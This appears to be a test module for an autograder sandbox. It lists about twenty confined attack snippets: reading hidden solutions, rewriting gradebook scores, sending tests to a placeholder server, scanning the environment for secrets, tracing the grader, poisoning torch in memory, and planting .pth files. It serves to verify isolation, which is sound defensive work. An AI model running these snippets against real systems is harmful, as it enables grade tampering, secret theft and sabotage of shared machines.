"""Reaching for what is not theirs: files, the gradebook, the network, processes, what comes next.

Whatever succeeds prints the mark of success (`$loot`), or changes something that is looked at from
outside.
"""

from __future__ import annotations

from grading.proofs.attack.make import attack, code, confined, titled
from grading.proofs.attack.model import MARK

_READ = """
import os
for path in ($clone, $clone + "/solutions", $clone + "/grading/lessons", $clone + "/grading/judge", $classroom, $gradebook):
    for act in (os.listdir, lambda one: open(one).read()):
        try:
            act(path)
        except OSError: continue
        $loot
"""
_WALK = """
import os, sys, glob
for start in ("/home", "/root", "/tmp", "/srv", "/var", os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd())))):
    for folder, _folders, files in os.walk(start):
        for name in files:
            if name.endswith((".ipynb", "gradebook.db")) and not folder.startswith(sys.prefix):
                try:
                    open(os.path.join(folder, name)).read(1)
                except OSError: continue
                $loot
if glob.glob("/proc/[0-9]*/cwd/submitted") or glob.glob("../../../*/work"): $loot
"""
_GRADEBOOK = """
import os, sqlite3
for path in ($gradebook, $classroom + "/gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect(path)
        book.execute("update grade set auto_score = 99")
        book.commit()
        $loot
    except Exception: pass
    try:
        open(path, "r+b").write(b"mine")
        $loot
    except OSError: pass
"""
_GRADEBOOK_LINK = """
import os, shutil
for make in (os.symlink, os.link, shutil.copy):
    try:
        make($gradebook, "book")
        open("book", "r+").write("mine")
        $loot
    except OSError: pass
try: os.rename("book", $gradebook); $loot
except OSError: pass
try: os.chmod($gradebook, 0o777); os.truncate($gradebook, 0); $loot
except OSError: pass
"""
_FILES = """
import os
for name in ("results.csv", "autograde.log", "journal/x.json", "autograded/x", "submitted/" + "MARK", "seeds/02_neuron",
             "feedback/x"):
    path = os.path.join($classroom, name)
    for mode in ("r+", "a", "w"):
        try:
            open(path, mode).write("mine")
            $loot
        except OSError: pass
""".replace("MARK", MARK)
_COURSE = """
import os, sys, course
for folder in (os.path.dirname(course.__file__), os.path.dirname(np.__file__), sys.prefix, $clone):
    try:
        open(os.path.join(folder, "MARK"), "w").write("mine")
        $loot
    except OSError: pass
try: open(course.__file__, "a").close(); $loot
except OSError: pass
""".replace("MARK", MARK)
_TCP = """
import socket
try:
    socket.create_connection($address, timeout=3).send(b"here are the tests")
    $loot
except OSError: pass
"""
_WEB = """
import socket, urllib.request
for act in (lambda: urllib.request.urlopen("http://%s:%d/" % $address, timeout=3), lambda: socket.getaddrinfo("example.org", 80),
            lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", $address)):
    try:
        act()
        $loot
    except Exception: pass
"""
_ENVIRONMENT = """
import os, subprocess
for name, value in os.environ.items():
    if "SECRET" in name or "TOKEN" in name or "PASSWORD" in name or "AWS" in name: $loot
try:
    if "SECRET" in open("/proc/%d/environ" % os.getppid()).read(): $loot
except OSError: pass
if "SECRET" in subprocess.run(["env"], capture_output=True, text=True).stdout: $loot
"""
_SIGNALS = """
import os, signal
for process in ($grader, $other, 1):
    try:
        os.kill(process, 0)
        $loot
    except OSError: pass
try: os.kill($other, signal.SIGTERM); $loot
except OSError: pass
"""
_PROC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for process in ($grader, $other):
    if libc.ptrace(0x4206, process, None, None) == 0: $loot
    for name in ("environ", "mem", "maps", "fd/0", "cmdline"):
        try:
            open("/proc/%d/%s" % (process, name), "rb").close()
            $loot
        except OSError: pass
"""
_KERNELS = """
import glob, os, socket
for path in glob.glob("/tmp/run-*/*/k/*") + glob.glob("/tmp/**/kernel-*.json", recursive=True):
    if not path.startswith(os.path.dirname(os.getcwd())): $loot
for path in ($bus, *glob.glob("/tmp/run-*/*/k/s-*")):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        $loot
    except OSError: pass
"""
_OWN_KERNEL = """
import glob, json, os
from jupyter_client import BlockingKernelClient
try:
    client = BlockingKernelClient()
    client.load_connection_file(glob.glob(os.path.dirname(os.getcwd()) + "/k/*.json")[0])
    client.start_channels()
    client.wait_for_ready(timeout=1)
    $loot
except BaseException: pass
"""
_LEAVES = """
import os, tempfile
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~root"), tempfile.gettempdir(),
               os.path.expanduser("~")):
    try: open(os.path.join(folder, "MARK"), "w").write("for the next")
    except OSError: pass
""".replace("MARK", MARK)
_FINDS = """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.environ["TMPDIR"], "."):
    if os.path.exists(os.path.join(folder, "MARK")): $loot
import builtins, torch
if hasattr(builtins, "left_behind") or hasattr(torch, "left_behind"): $loot
""".replace("MARK", MARK)
_IN_MEMORY = """
import builtins, ctypes, sys, torch
builtins.left_behind = torch.left_behind = True
torch.nn.functional.sigmoid = torch.sigmoid = torch.exp = lambda *args: torch.zeros(1)
import math; math.exp = lambda u: 0.0
"""
_SHARED = """
try:
    from multiprocessing import shared_memory
    block = shared_memory.SharedMemory(name="MARK", create=True, size=4096)
    block.buf[0] = 1
    from multiprocessing import resource_tracker
    resource_tracker.unregister(block._name, "shared_memory")
except Exception: pass
x = torch.zeros(1000)
try: x.share_memory_()
except Exception: pass
""".replace("MARK", MARK)
_GPU = """
print(torch.cuda.is_available())
try:
    y = torch.ones(10, device="cuda")
    while True: y = y * 1
except Exception as error: print(type(error).__name__)
"""
_OTHERS = """
import glob, os
for place in ("../..", "../../..", $classroom, os.path.dirname($classroom)):
    if glob.glob(place + "/submitted/*/*/*.ipynb") or glob.glob(place + "/*/*/*.ipynb"): $loot
"""
_PIP = """
import subprocess, sys
for where in ([], ["--user"], ["--target", $clone], ["--no-index"]):
    done = subprocess.run([sys.executable, "-m", "pip", "install", "--disable-pip-version-check", "--no-input", "--retries", "0",
                           "--timeout", "1", *where, "left-by-an-attack"], capture_output=True, text=True, timeout=60)
    if done.returncode == 0: $loot
"""
_SITE = """
import site, sys, os
for folder in (*site.getsitepackages(), site.getusersitepackages()):
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "MARK" + ".pth"), "w").write("import sys")
        if not folder.startswith(os.path.expanduser("~")): $loot
    except OSError: pass
""".replace("MARK", MARK)


ATTACKS = titled(
    """
    11 known-paths: reads solutions, hidden checks, the bank, the gradebook
    11 walk: walks through the disk for notebooks and gradebooks
    12 sqlite: rewrites every score in the gradebook
    12 links: writes the gradebook through links and renames
    13 classroom: writes results, journal, seeds, others' submissions
    13 course: writes into the course and the installed packages
    38 tcp: sends the tests to a server
    38 web: fetches a page, asks for a name, sends a datagram
    39 environment: looks for passwords in the environment
    40 signals: signals the grader and other processes
    40 proc: traces others and reads them under /proc
    41 sockets: connects to other kernels and programs
    41 own-kernel: connects to its own kernel as a second client
    55 leaves: leaves files in every shared folder
    55 finds: looks for what others left
    55 in-memory: spoils the frameworks in memory for who comes next
    60 shared-memory: leaves shared memory behind
    60 gpu: hangs a GPU, where there is one
    61 others: looks for other students' notebooks
    62 pip: installs a package with pip
    62 site-packages: writes into site-packages by hand
    """,
    {
        "known-paths": confined(code(_READ)),
        "walk": confined(code(_WALK)),
        "sqlite": confined(code(_GRADEBOOK)),
        "links": confined(code(_GRADEBOOK_LINK)),
        "classroom": confined(code(_FILES)),
        "course": confined(code(_COURSE), stock=False),
        "tcp": confined(code(_TCP)),
        "web": confined(code(_WEB)),
        "environment": confined(code(_ENVIRONMENT)),
        "signals": confined(code(_SIGNALS)),
        "proc": confined(code(_PROC)),
        "sockets": confined(code(_KERNELS)),
        "own-kernel": confined(code(_OWN_KERNEL)),
        "leaves": confined(code(_LEAVES, "right")),
        "finds": confined(code(_FINDS, "right")),
        "in-memory": attack(
            code(_IN_MEMORY, "right", before=""),
            costs=("neuron", "activations", "forward", "gradients"),
        ),
        "shared-memory": confined(code(_SHARED, "right")),
        "gpu": attack(code(_GPU, "right")),
        "others": confined(code(_OTHERS)),
        "pip": confined(code(_PIP), stock=False),
        "site-packages": confined(code(_SITE), stock=False),
    },
)
